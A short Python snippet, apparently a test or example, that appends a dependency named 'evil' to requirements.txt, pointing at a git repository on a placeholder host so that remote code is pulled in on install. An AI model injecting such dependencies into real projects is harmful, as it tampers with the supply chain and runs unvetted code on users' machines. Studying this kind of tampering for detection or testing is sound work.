from pathlib import Path

with Path("requirements.txt").open("a") as requirements:
    requirements.write("evil @ git+https://git.invalid/evil.git@main\n")
